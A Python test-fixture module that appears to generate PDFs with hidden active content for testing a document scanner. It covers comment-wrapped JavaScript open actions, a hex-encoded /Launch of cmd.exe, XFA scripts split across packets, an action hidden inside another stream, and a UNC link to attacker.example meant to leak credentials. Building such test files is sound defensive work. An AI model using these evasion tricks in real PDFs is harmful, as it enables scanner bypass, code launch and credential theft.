"""PDFs that carry active content the way hostile files hide it, and harmless look-alikes.

Every file is written with :class:`~tests.intake.documents.samples.RawPdf` so that it holds
exactly the trick its name says; pypdf and pdfium read each one as an ordinary document.
"""

from __future__ import annotations

import zlib

from tests.intake.documents.samples import one_page, stream

# Payloads without literal strings: a string inside them would not survive the old pre-scan's
# two string-stripping passes, so these are the forms that slipped through.
JS_STREAM = stream(b"app.alert(1);")


def comment_wrapped(body: bytes, style: str) -> bytes:
    """``body`` between comment lines that look like a string (``%(`` ... ``%)``) or a stream."""
    if style == "paren":
        return b"\n%(\n" + body + b"\n%)\n"
    return b"\n%stream\n" + body + b"\n%endstream\n"


def open_action_javascript(style: str) -> bytes:
    """/OpenAction running JavaScript (in a stream), between comment lines."""
    pdf = one_page(comment_wrapped(b"/OpenAction << /S /JavaScript /JS 5 0 R >>", style))
    pdf.add(JS_STREAM)
    return pdf.build()


def launch_cmd(style: str) -> bytes:
    """/OpenAction launching cmd.exe (names in hex strings), between comment lines."""
    cmd = b"/Win << /F <636d642e657865> /P <2f6320636d642e657865> >>"  # cmd.exe /c cmd.exe
    return one_page(comment_wrapped(b"/OpenAction << /S /Launch " + cmd + b" >>", style)).build()


def named_javascript(style: str) -> bytes:
    """Document-level JavaScript in the /Names tree; every telling name between comment lines."""
    pdf = one_page(comment_wrapped(b"/Names << /JavaScript 5 0 R >>", style))
    pdf.add(b"<< /Names [<6f70656e> 6 0 R] >>")
    pdf.add(b"<<" + comment_wrapped(b"/S /JavaScript /JS 7 0 R", style) + b">>")
    pdf.add(JS_STREAM)
    return pdf.build()


COMMENT_WRAPPED = {
    f"{name}-{style}": (make, style)
    for name, make in (
        ("open-action-javascript", open_action_javascript),
        ("launch-cmd-exe", launch_cmd),
        ("named-javascript", named_javascript),
    )
    for style in ("paren", "stream")
}


def xfa_pdf(template: bytes, split_at: int | None = None) -> bytes:
    """An AcroForm with XFA packets (compressed); ``split_at`` cuts the template in two packets."""
    parts = [template] if split_at is None else [template[:split_at], template[split_at:]]
    pdf = one_page(b"/AcroForm 5 0 R ")
    packets = b" ".join(b"(template%d) %d 0 R" % (i, 6 + i) for i in range(len(parts)))
    pdf.add(b"<< /Fields [] /XFA [" + packets + b"] >>")
    for part in parts:
        pdf.add(stream(part, compress=True))
    return pdf.build()


XFA_SCRIPT = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<field name="a"><event activity="initialize"><script contentType="application/x-javascript">'
    b"app.alert(1);</script></event></field></subform></template>"
)
XFA_PLAIN = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<field name="a"><caption><value><text>Nom</text></value></caption></field></subform></template>'
)


def xfa_with_script() -> bytes:
    """XFA whose template runs JavaScript when the form opens."""
    return xfa_pdf(XFA_SCRIPT)


def xfa_script_split_between_packets() -> bytes:
    """The same, with the ``<script`` tag cut between two packets."""
    return xfa_pdf(XFA_SCRIPT, split_at=XFA_SCRIPT.index(b"<script") + 4)


def xfa_without_script() -> bytes:
    """XFA that only lays out a field."""
    return xfa_pdf(XFA_PLAIN)


def gotor_unc() -> bytes:
    """A link that opens a document on a UNC path (leaks the user's credentials to that host)."""
    pdf = one_page(page_extra=b"/Annots [5 0 R] ")
    pdf.add(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
        b"/A << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
    )
    return pdf.build()


def submit_form() -> bytes:
    """A form field that sends the form's data to a web address when clicked."""
    pdf = one_page(b"/AcroForm << /Fields [5 0 R] >> ", page_extra=b"/Annots [5 0 R] ")
    pdf.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [10 10 100 40] /P 3 0 R "
        b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> /Flags 4 >> >>"
    )
    return pdf.build()


def import_data() -> bytes:
    """An open action that imports form data from another file (in a /Next chain)."""
    return one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (donnees.fdf) >> >> ").build()


def goto_embedded() -> bytes:
    """Page additional action that opens an embedded document (/GoToE)."""
    return one_page(page_extra=b"/AA << /O << /S /GoToE /NewWindow true /T << /R /C /N <646f63> >> >> >> ").build()


def javascript_mentioned_in_text() -> bytes:
    """A harmless document whose strings talk about /JavaScript, /Launch and 100% (a percent sign)."""
    pdf = one_page(page_extra=b"/Resources << /Font << /F1 5 0 R >> >> ")
    pdf.objects[3] = stream(
        b"BT /F1 12 Tf 72 720 Td (Never use /JavaScript or /Launch: 100% \\(sure\\)) Tj ET", compress=True
    )
    pdf.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    pdf.trailer_extra = b"/Info 6 0 R "
    pdf.add(b"<< /Title (About /JavaScript: 100% (not a comment) and /Launch) /Subject <2f4a617661536372697074> >>")
    return pdf.build()


def hidden_embedded_file() -> bytes:
    """An attachment whose name tree sits between comment lines and whose stream has no /Type."""
    pdf = one_page(comment_wrapped(b"/Names << /EmbeddedFiles << /Names [<782e747874> 5 0 R] >> >>", "stream"))
    pdf.add(b"<< /Type /Filespec /F (x.txt) /UF (x.txt) /E#46 << /F 6 0 R >> >>")
    data = zlib.compress(b"an attached text file\n")
    pdf.add(b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data))
    return pdf.build()


def action_inside_another_stream() -> bytes:
    """The open action's object stored inside another stream's data, where only the xref finds it.

    A pass over the bytes skips stream data, so it cannot see object 6; a reader follows the
    cross-reference table straight to it.
    """
    pdf = one_page(b"/OpenAction 6 0 R ")
    hidden = b"6 0 obj\n<< /S /JavaScript /JS 7 0 R >>\nendobj\n"
    pdf.add(b"<< /Length %d >>\nstream\n" % (len(hidden) + 8) + b"padding\n" + hidden + b"\nendstream")
    built = bytearray(pdf.build())
    at = built.index(hidden)
    # Add object 6 (inside stream 5) and the script 7 to the table by hand.
    script = b"7 0 obj\n<< /Length 13 >>\nstream\napp.alert(1);\nendstream\nendobj\n"
    xref_at = built.index(b"xref\n")
    tail = bytes(built[xref_at:])
    body = bytes(built[:xref_at]) + script
    rows = tail.split(b"\n")
    count = int(rows[1].split()[1])
    entries = rows[2 : 2 + count]
    entries += [b"%010d 00000 n " % at, b"%010d 00000 n " % (xref_at)]
    trailer = b"\n".join(rows[2 + count :]).replace(b"/Size %d" % count, b"/Size %d" % (count + 2))
    new_xref_at = len(body)
    trailer = trailer.rsplit(b"startxref", 1)[0] + b"startxref\n%d\n%%%%EOF\n" % new_xref_at
    return body + b"xref\n0 %d\n" % (count + 2) + b"\n".join(entries) + b"\n" + trailer


ACTIVE = {
    "xfa-with-script": xfa_with_script,
    "xfa-script-split-between-packets": xfa_script_split_between_packets,
    "gotor-unc-path": gotor_unc,
    "submit-form": submit_form,
    "import-data-in-next-chain": import_data,
    "goto-embedded": goto_embedded,
    "action-stored-inside-another-stream": action_inside_another_stream,
}
